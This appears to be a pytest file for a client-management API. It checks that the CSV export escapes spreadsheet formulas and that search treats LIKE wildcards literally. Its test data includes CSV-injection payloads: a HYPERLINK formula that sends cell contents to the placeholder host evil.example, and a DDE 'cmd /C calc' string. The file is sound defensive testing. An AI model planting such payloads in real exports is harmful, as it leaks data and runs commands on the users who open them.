"""The client export neutralises spreadsheet formulas (OWASP CSV injection), and search treats LIKE's
metacharacters (%, _, \\) as the plain text they are."""
import csv
import io

import pytest


def export_rows(admin, **params):
    r = admin.get("/api/clients/export.csv", columns="first_name,last_name,phone,note", **params)
    assert r.status == 200, r
    return list(csv.reader(io.StringIO(r.raw.content.decode("utf-8"), newline=""), delimiter=params.get("sep", ",")))


def test_formula_cells_get_a_leading_quote(server, admin):
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Voir")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
                "\tTab", "\rCr"]
    for i, p in enumerate(payloads):
        r = admin.post("/api/clients", {"first_name": p, "last_name": f"Formule{i}", "phone": "06 12 34 56 7" + str(i),
                                        "email": f"formule{i}@example.com", "note": p})
        assert r.status == 201, r
    rows = export_rows(admin)
    by_last = {row[1]: row for row in rows[1:]}
    for i, p in enumerate(payloads):
        row = by_last[f"Formule{i}"]
        assert row[0] == "'" + p and row[3] == "'" + p, row
        assert row[2].startswith("+33"), row  # a phone number in E.164 is no formula
    # The API itself still answers the name as it was typed.
    found = admin.get("/api/clients", q="Formule0")
    assert found["items"][0]["first_name"] == payloads[0]


@pytest.mark.parametrize("q,expected", [("%", ["100% Bio"]), ("_", ["Snake_Case"]), ("\\", ["Back\\Slash"]),
                                        ("0%", ["100% Bio"]), ("e_c", ["Snake_Case"])])
def test_like_metacharacters_are_plain_text(server, admin, q, expected):
    for first, last in [("100% Bio", "Alpha"), ("Snake_Case", "Beta"), ("Back\\Slash", "Gamma"), ("Plain", "Delta"),
                        ("Encore", "Epsilon")]:
        r = admin.post("/api/clients", {"first_name": first, "last_name": last, "email": f"{last.lower()}@example.com"})
        assert r.status == 201, r
    r = admin.get("/api/clients", q=q)
    assert r.status == 200, r
    assert [c["first_name"] for c in r["items"]] == expected, r
    assert r["total"] == len(expected)
